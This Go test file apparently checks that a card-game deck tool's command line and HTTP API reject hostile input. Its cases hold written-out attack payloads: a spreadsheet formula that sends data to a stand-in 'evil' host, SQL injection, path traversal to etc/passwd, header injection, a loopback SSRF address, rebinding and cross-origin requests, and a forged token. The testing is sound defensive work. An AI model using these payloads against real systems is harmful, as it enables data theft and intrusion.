//go:build linux

package main

import (
	"bytes"
	"strings"
)

// Exit statuses.
const (
	fine, no, misuse, broken = 0, 1, 2, 3
)

// answers are the statuses of something that is refused, or of something that is read.
func (in input) answers(read, refused []int) []int {
	if in.refused {
		return refused
	}
	return read
}

// logs are what a saved game could have become.
func logs() []input {
	head := `{"muster": 1, "game": "destiny", "edition": "first", "seed": 1, "options": {}, "lists": []}` + "\n"
	return []input{
		{"20 a log of an edition that there is not", []byte(strings.Replace(head, `"first"`, `"999"`, 1)), true},
		{"20 an action with a negative number", []byte(head + "0 -1\n"), true},
		{"20 5 MB of actions", append([]byte(head), bytes.Repeat([]byte("0 1.2.3\n"), 640_000)...), true},
		{"20 a version from later", []byte(strings.Replace(head, `"muster": 1`, `"muster": 999`, 1)), true},
	}
}

func atTheCommandLine() []attack {
	var all []attack
	for _, in := range lists() {
		all = append(all, attack{name: in.name, file: in.data, args: []string{"check", "FILE"}, want: in.answers([]int{fine, no}, []int{no, broken})})
	}
	for _, in := range heavy() {
		for _, args := range [][]string{{"check", "FILE"}, {"fix", "--format", "INF", "FILE"}, {"fix", "--addable", "--format", "INF", "FILE"}} {
			all = append(all, attack{name: in.name + ", " + strings.Join(args[:len(args)-1], " "), file: in.data, args: args, want: []int{fine, no}})
		}
	}
	all = append(all, attack{name: "6 a name that is a formula, as CSV", file: []byte("Name: =HYPERLINK(\"http://evil/?\"&A1,\"click\")\n\nDeck\n2x Scout\n"), args: []string{"export", "FILE", "--to", "csv"}, want: []int{fine}})
	for _, q := range queries() {
		all = append(all, attack{name: "10 search for " + shown(q), args: []string{"cards", "search", "--", q}, want: []int{fine, no, misuse}})
	}
	all = append(all, attack{name: "15 an address inside the machine", file: []byte("http://[::ffff:127.0.0.1]/deck"), args: []string{"check", "FILE"}, want: []int{broken}},
		attack{name: "19 a thousand million games", args: []string{"sim", "--games", "1000000000000000"}, want: []int{misuse}})
	for _, in := range logs() {
		all = append(all, attack{name: in.name, file: in.data, args: []string{"replay", "FILE"}, want: []int{no, broken}})
	}
	return all
}

func queries() []string {
	return []string{"R2-D2", `"`, "a AND", "NEAR(", "name:x", "*", "-", strings.Repeat("(", 20_000), strings.Repeat(`"d"* OR `, 2000), strings.Repeat("a", 100_000)}
}

func shown(s string) string {
	if len(s) > 12 {
		return s[:12] + "…"
	}
	return s
}

func overHTTP() []attack {
	post := func(in input, path string, read ...int) attack {
		return attack{name: in.name + ", " + path, file: in.data, method: "POST", path: "/api/v1/" + path, want: in.answers(read, append(refused, 200))}
	}
	var all []attack
	for _, in := range lists() {
		all = append(all, post(in, "lists/check", 200))
	}
	all = append(all, post(input{"15 kB of names that no card has", []byte("x\n" + numbered(480, "1 Elite Stormtroopers number#\n")), true}, "lists/fix"))
	for _, in := range heavy() {
		for _, door := range []string{"lists/check", "lists/fix?format=INF", "lists/addable?format=INF"} {
			all = append(all, post(in, door, 200))
		}
	}
	get := func(name, path string, want ...int) attack {
		return attack{name: name, method: "GET", path: path, want: want}
	}
	for _, q := range queries() {
		all = append(all, get("10 search for "+shown(q), "/api/v1/cards?q="+escaped(q), 200, 400, 431))
	}
	for _, p := range []string{"sort=name%3BDROP%20TABLE%20card--", "limit=-1", "limit=9e9", "cursor=AAAA%21"} {
		all = append(all, get("11 lists?"+p, "/api/v1/lists?"+p, 400))
	}
	for _, id := range []string{"..%2f..%2fetc%2fpasswd", "%00", "a%0d%0aSet-Cookie:x=1", "CON", "a%20b", strings.Repeat("a", 10_000)} {
		all = append(all, get("12 the list "+shown(id), "/api/v1/lists/"+id, 400, 404), get("12 the game "+shown(id), "/api/v1/games/"+id, 400, 404), get("12 the card "+shown(id), "/api/v1/cards/"+id, 400, 404))
	}
	form := func(origin string) attack {
		return attack{name: "14 a form of a page at " + origin, method: "POST", path: "/api/v1/lists?name=x", file: []byte("2x Scout"), header: map[string]string{"Origin": origin, "Content-Type": "text/plain"}, want: []int{403, 415}}
	}
	rebound := get("13 another host that points here", "/api/v1/formats", 421)
	rebound.host, rebound.header = "evil.example", map[string]string{"Sec-Fetch-Site": "same-origin"}
	stranger := attack{name: "17 an action with a token of nobody", method: "POST", path: "/api/v1/games/GAME/actions", file: []byte(`{"n":0,"action":"0 1"}`),
		header: map[string]string{"Authorization": "Bearer " + strings.Repeat("A", 43), "Content-Type": "application/json"}, want: []int{401, 403}}
	return append(all, rebound, form("https://evil.example"), form("null"), stranger,
		get("17 a token in the address", "/api/v1/games/GAME?token=TOKEN", 400))
}

// refused are the statuses of requests that are not answered.
var refused = []int{400, 413, 415, 422}

// escaped is a text in an address.
func escaped(s string) string {
	return strings.NewReplacer(" ", "%20", `"`, "%22", "(", "%28", "*", "%2A").Replace(s)
}
